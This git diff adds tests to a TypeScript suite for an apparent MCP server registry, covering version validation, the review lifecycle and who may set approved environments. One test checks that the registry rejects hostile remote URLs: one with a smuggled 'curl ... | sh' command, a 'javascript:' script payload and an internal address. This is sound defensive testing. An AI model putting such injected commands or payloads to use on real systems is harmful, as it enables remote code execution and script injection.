@@ -280,7 +280,26 @@ describe("writes are authenticated and authorized", () => {
       body: serverJson("golf", "1.0.1", { meta: { team: "finance" } }),
     });
     expect(steal.status).toBe(409);
-    await publish("golf", "1.0.1", ADMIN, { meta: { team: "finance" } });
+    const moved = await publish("golf", "1.0.1", ADMIN, { meta: { team: "finance" } });
+    expect(moved._meta["dev.mcp-fleet/governance"].team).toBe("finance");
+  });
+
+  it("refuses versions that are not semantic and remote URLs a snippet could not carry safely", async () => {
+    for (const [overrides, location] of [
+      [{ version: "01.2.3" }, "body.version"],
+      [{ version: "1.0.0-01" }, "body.version"],
+      [{ remotes: [{ type: "streamable-http", url: "https://a.example/mcp && curl e|sh" }] }, "body.remotes[0].url"],
+      [{ remotes: [{ type: "streamable-http", url: "http://internal.example/mcp" }] }, "body.remotes[0].url"],
+      [{ remotes: [{ type: "streamable-http", url: "javascript:alert(1)" }] }, "body.remotes[0].url"],
+    ] as const) {
+      const response = await call("POST", "/v0.1/publish", {
+        as: PIPELINE,
+        body: { ...serverJson("sierra"), ...overrides },
+      });
+      expect(response.status, JSON.stringify(overrides)).toBe(400);
+      expect((await jsonOf(response)).errors.map((e: { location: string }) => e.location)).toContain(location);
+    }
+    expect((await call("GET", "/v0.1/servers/sierra/versions")).status).toBe(404);
   });
 
   it("rejects invalid server.json with a 400 naming each field, and writes nothing", async () => {
@@ -405,6 +424,52 @@ describe("lifecycle and reviews", () => {
     const revive = await call("PUT", "/v0.1/servers/kilo/lifecycle", { as: ADMIN, body: { lifecycle: "approved" } });
     expect(revive.status).toBe(409);
     expect((await jsonOf(revive)).detail).toContain("retired is final");
+  });
+
+  it("a new version of an approved server goes back to review: an approval covers the reviewed version", async () => {
+    await publish("tango");
+    await approve("tango");
+    const before = await jsonOf(await call("GET", "/v0.1/servers/tango/versions/1.0.0"));
+    await new Promise((resolve) => setTimeout(resolve, 2));
+    const next = await publish("tango", "1.1.0", ALICE, {
+      remotes: [{ type: "streamable-http", url: "https://elsewhere.example.com/mcp" }],
+    });
+    const governance = next._meta["dev.mcp-fleet/governance"];
+    expect(governance.lifecycle).toBe("in_review");
+    expect(governance.reviews).toEqual({ security: null, legal: null, genai: null });
+    expect(await worker.default.serverPolicy("tango")).toMatchObject({ lifecycle: "in_review" });
+    const access = await jsonOf(
+      await call("POST", "/v0.1/access", { body: { server: "tango", user: { groups: ["ads"] } } }),
+    );
+    expect(access).toMatchObject({ allowed: false, code: "not_approved" });
+    // The old version's reviews do not approve the new one.
+    const early = await call("PUT", "/v0.1/servers/tango/lifecycle", { as: REVIEWER, body: { lifecycle: "approved" } });
+    expect(early.status).toBe(409);
+    // Every version's status and governance changed, so a sync with updated_since sees the old one too.
+    const since = before._meta["io.modelcontextprotocol.registry/official"].updatedAt;
+    const changed = await jsonOf(
+      await call("GET", `/v0.1/servers?search=tango&updated_since=${encodeURIComponent(since)}`),
+    );
+    expect(changed.servers.map((entry: Json) => entry.server.version)).toEqual(["1.0.0", "1.1.0"]);
+  });
+
+  it("only reviewers may change where a server is approved to run", async () => {
+    await publish("uniform");
+    const byOwner = await call("PUT", "/v0.1/servers/uniform/access", {
+      as: ALICE,
+      body: { allowedGroups: ["ads"], allowedServices: false, environments: ["test", "production"] },
+    });
+    expect(byOwner.status).toBe(403);
+    expect((await jsonOf(byOwner)).detail).toContain("environments");
+    const byReviewer = await call("PUT", "/v0.1/servers/uniform/access", {
+      as: REVIEWER,
+      body: { allowedGroups: ["ads"], allowedServices: false, environments: ["test", "production"] },
+    });
+    expect(byReviewer.status).toBe(200);
+    expect((await jsonOf(byReviewer))._meta["dev.mcp-fleet/governance"].environments).toEqual(["test", "production"]);
+    // A later publish proposes nothing over it.
+    const next = await publish("uniform", "1.0.1", PIPELINE, { meta: { environments: ["staging"] } });
+    expect(next._meta["dev.mcp-fleet/governance"].environments).toEqual(["test", "production"]);
   });
 
   it("owners and reviewers set who may use a server; others may not", async () => {
